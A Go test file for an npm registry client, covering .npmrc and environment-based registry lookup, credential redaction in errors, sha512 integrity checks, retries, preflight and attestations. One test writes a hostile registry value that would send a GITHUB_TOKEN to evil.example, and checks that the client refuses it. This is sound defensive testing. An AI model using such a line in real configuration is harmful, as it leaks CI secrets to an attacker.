package registry

import (
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/waxseal/waxseal/internal/retry"
	"github.com/waxseal/waxseal/internal/testing/npmregistry"
	"github.com/waxseal/waxseal/internal/testing/retrytest"
)

func TestURLFor(t *testing.T) {
	t.Parallel()
	project, home := t.TempDir(), t.TempDir()
	write := func(dir, content string) {
		if err := os.WriteFile(filepath.Join(dir, ".npmrc"), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(project, "; project settings\n@corp:registry = https://npm.corp.example/\n")
	write(home, "# user settings\nregistry=\"https://mirror.example/npm/\"\n//mirror.example/:_authToken=secret\n")
	tests := []struct {
		name string
		pkg  string
		env  map[string]string
		dir  string
		want string
	}{
		{"default", "left-pad", nil, "", DefaultURL},
		{"environment", "left-pad", map[string]string{"npm_config_registry": "https://env.example/"}, project, "https://env.example/"},
		{"upper-case environment", "left-pad", map[string]string{"NPM_CONFIG_REGISTRY": "https://env.example/"}, "", "https://env.example/"},
		{"user .npmrc", "left-pad", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
		{"scope in project .npmrc", "@corp/tool", map[string]string{"HOME": home}, project, "https://npm.corp.example/"},
		{"scope environment beats project", "@corp/tool", map[string]string{"npm_config_@corp:registry": "https://scoped.example/"}, project, "https://scoped.example/"},
		{"other scope falls back", "@other/tool", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
		{"setup-node's userconfig", "left-pad", map[string]string{"HOME": project, "NPM_CONFIG_USERCONFIG": filepath.Join(home, ".npmrc")}, "", "https://mirror.example/npm/"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := URLFor(tt.pkg, tt.dir, func(k string) string { return tt.env[k] })
			if err != nil || got != tt.want {
				t.Errorf("URLFor(%q) = %q, want %q", tt.pkg, got, tt.want)
			}
		})
	}
}

// TestURLForNeverExpandsVariables: a repository's .npmrc could name registry=https://evil/${GITHUB_TOKEN}/; npm
// would expand it and send the secret there. waxseal refuses, and the error does not show the secret.
func TestURLForNeverExpandsVariables(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, ".npmrc"), []byte("registry=https://evil.example/${GITHUB_TOKEN}/\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"GITHUB_TOKEN": "ghs_supersecret0123456789"}
	got, err := URLFor("left-pad", dir, func(k string) string { return env[k] })
	if err == nil || got != "" {
		t.Fatalf("URLFor = %q, %v; want a refusal", got, err)
	}
	if strings.Contains(err.Error(), "ghs_supersecret") || !strings.Contains(err.Error(), "pass --registry") {
		t.Errorf("err = %q: want the fix and no secret", err)
	}
}

func TestErrorsRedactURLs(t *testing.T) {
	t.Parallel()
	e := &HTTPError{URL: "https://user:s3cret@registry.example/pkg/1.0.0?token=abc", Status: 404}
	if strings.Contains(e.Error(), "s3cret") || strings.Contains(e.Error(), "token=abc") || !strings.Contains(e.Error(), "https://registry.example/pkg/1.0.0") {
		t.Errorf("HTTPError = %q, want the URL without credentials", e)
	}
	if _, err := New(nil, retry.Policy{}, "ftp://user:s3cret@registry.example/"); err == nil || strings.Contains(err.Error(), "s3cret") {
		t.Errorf("New with a bad URL: %v, want an error without the credentials", err)
	}
}

func TestVersionAndTarball(t *testing.T) {
	t.Parallel()
	tarball := []byte("not really a tarball, but bytes with a digest")
	sum := sha512.Sum512(tarball)
	var srv *httptest.Server
	var paths []string
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		paths = append(paths, r.Method+" "+r.URL.EscapedPath())
		switch r.URL.EscapedPath() {
		case "/@scope%2Fpkg/1.2.3":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "1.2.3", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.2.3.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
			}})
		case "/@scope%2Fpkg/6.6.6":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "6.6.6", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.2.3.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(make([]byte, 64)),
			}})
		case "/@scope%2Fpkg/1.0.0":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "1.0.0", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.0.0.tgz", "integrity": "sha1-" + base64.StdEncoding.EncodeToString(make([]byte, 20)),
			}})
		case "/@scope/pkg/-/pkg-1.2.3.tgz":
			w.Write(tarball)
		default:
			http.Error(w, `{"error":"Not found"}`, http.StatusNotFound)
		}
	}))
	t.Cleanup(srv.Close)
	c, err := New(srv.Client().Transport, retry.Policy{Clock: &retrytest.Clock{}}, srv.URL)
	if err != nil {
		t.Fatal(err)
	}

	v, err := c.Version(t.Context(), "@scope/pkg", "1.2.3")
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.Tarball(t.Context(), v)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(tarball, got); diff != "" {
		t.Errorf("tarball (-want +got):\n%s", diff)
	}

	v, err = c.Version(t.Context(), "@scope/pkg", "6.6.6")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Tarball(t.Context(), v); !errors.Is(err, ErrIntegrity) {
		t.Errorf("tarball against another integrity: got %v, want ErrIntegrity", err)
	}
	v, err = c.Version(t.Context(), "@scope/pkg", "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Tarball(t.Context(), v); err == nil || !strings.Contains(err.Error(), "has no sha512") {
		t.Errorf("sha1-only integrity: got %v, want a refusal", err)
	}
	_, err = c.Version(t.Context(), "@scope/pkg", "9.9.9")
	var he *HTTPError
	if !errors.As(err, &he) || he.Status != http.StatusNotFound || !strings.Contains(err.Error(), "check the package name and version") {
		t.Errorf("missing version: got %v, want a 404 HTTPError that says what to check", err)
	}
	want := []string{"GET /@scope%2Fpkg/1.2.3", "GET /@scope/pkg/-/pkg-1.2.3.tgz", "GET /@scope%2Fpkg/6.6.6", "GET /@scope/pkg/-/pkg-1.2.3.tgz", "GET /@scope%2Fpkg/1.0.0", "GET /@scope%2Fpkg/9.9.9"}
	if diff := cmp.Diff(want, paths); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}

func TestNewRefusesNonHTTPRegistry(t *testing.T) {
	t.Parallel()
	for _, u := range []string{"", "ftp://registry.example/", "registry.npmjs.org", "https://"} {
		if _, err := New(nil, retry.Policy{}, u); err == nil {
			t.Errorf("New(%q) accepted it", u)
		}
	}
}

func FuzzParseIntegrity(f *testing.F) {
	sum := sha512.Sum512([]byte("x"))
	f.Add("sha512-" + base64.StdEncoding.EncodeToString(sum[:]))
	f.Add("sha1-abc sha512-" + base64.StdEncoding.EncodeToString(sum[:]) + "?opt")
	f.Add("sha512-!!!")
	f.Fuzz(func(t *testing.T, sri string) {
		d, err := parseIntegrity(sri)
		if err != nil {
			return
		}
		// Whatever parses must round-trip to a sha512- token present in the input.
		if !strings.Contains(sri, "sha512-"+base64.StdEncoding.EncodeToString(d[:])) {
			t.Errorf("parseIntegrity(%q) = %x, not in the input", sri, d)
		}
	})
}

func TestRegistryRetriesAndNamesItself(t *testing.T) {
	t.Parallel()
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls++
		switch {
		case calls == 1:
			http.Error(w, "<html>502 Bad Gateway</html>", http.StatusBadGateway)
		case calls == 2:
			w.Header().Set("Retry-After", "2")
			w.WriteHeader(http.StatusTooManyRequests)
		case r.URL.Path == "/down/1.0.0":
			w.WriteHeader(http.StatusServiceUnavailable)
		default:
			json.NewEncoder(w).Encode(map[string]any{"name": "pkg", "version": "1.0.0", "dist": map[string]string{"tarball": "x", "integrity": "sha512-x"}})
		}
	}))
	t.Cleanup(srv.Close)
	clock := &retrytest.Clock{}
	c, err := New(srv.Client().Transport, retry.Policy{Clock: clock, For: time.Minute}, srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Version(t.Context(), "pkg", "1.0.0"); err != nil || calls != 3 {
		t.Fatalf("Version after a 502 and a 429: %v (%d calls), want success on the third", err, calls)
	}
	if slept := clock.Slept(); len(slept) != 2 || slept[1] != 2*time.Second {
		t.Errorf("slept %v, want a backoff then the 2s Retry-After", slept)
	}
	_, err = c.Version(t.Context(), "down", "1.0.0")
	var re *retry.Error
	if !errors.As(err, &re) || re.Status != 503 || !strings.Contains(err.Error(), "the npm registry (GET ") || !strings.Contains(err.Error(), "status.npmjs.org") {
		t.Errorf("err = %v, want the registry named with its 503 and where to look", err)
	}
}

func TestPreflight(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	reg.AddVersion("@scope/pkg", "1.0.0", []byte("tgz"))
	reg.AddVersion("left-pad", "1.3.0", []byte("tgz"))
	reg.AddUnpublished("gone", "1.0.0", "1.0.1")
	c, err := New(reg.Client().Transport, retry.Policy{Clock: &retrytest.Clock{}}, reg.URL)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, version string
		want          Availability
	}{
		{"@scope/pkg", "1.0.0", VersionExists},
		{"@scope/pkg", "1.1.0", NewVersion},
		{"left-pad", "1.3.0", VersionExists},
		{"left-pad", "2.0.0", NewVersion},
		{"brand-new", "0.1.0", NewPackage},
		{"gone", "1.0.1", VersionUnpublished},
		{"gone", "2.0.0", NewPackage},
	} {
		got, err := c.Preflight(t.Context(), tc.name, tc.version)
		if err != nil || got != tc.want {
			t.Errorf("Preflight(%s@%s) = %v, %v; want %v", tc.name, tc.version, got, err, tc.want)
		}
	}
	// A registry that wants a token for reads: the error says so, and names the registry.
	deny := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, `{"error":"authentication required"}`, http.StatusUnauthorized)
	}))
	t.Cleanup(deny.Close)
	c, _ = New(nil, retry.Policy{Clock: &retrytest.Clock{}}, deny.URL)
	if _, err := c.Preflight(t.Context(), "x", "1.0.0"); err == nil || !strings.Contains(err.Error(), "HTTP 401") {
		t.Errorf("Preflight against a registry that refuses reads: %v", err)
	}
}

func TestAttestations(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	reg.AddVersion("@scope/pkg", "1.0.0", []byte("tgz"), npmregistry.Attestation{PredicateType: "https://slsa.dev/provenance/v1", Bundle: []byte(`{"mediaType":"x"}`)})
	c, _ := New(nil, retry.Policy{Clock: &retrytest.Clock{}}, reg.URL)
	got, err := c.Attestations(t.Context(), "@scope/pkg", "1.0.0")
	if err != nil || len(got) != 1 || got[0].PredicateType != "https://slsa.dev/provenance/v1" || string(got[0].Bundle) != `{"mediaType":"x"}` {
		t.Errorf("Attestations = %+v, %v", got, err)
	}
	if _, err := c.Attestations(t.Context(), "@scope/pkg", "9.9.9"); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("Attestations of a version without any: %v, want the 404", err)
	}
}
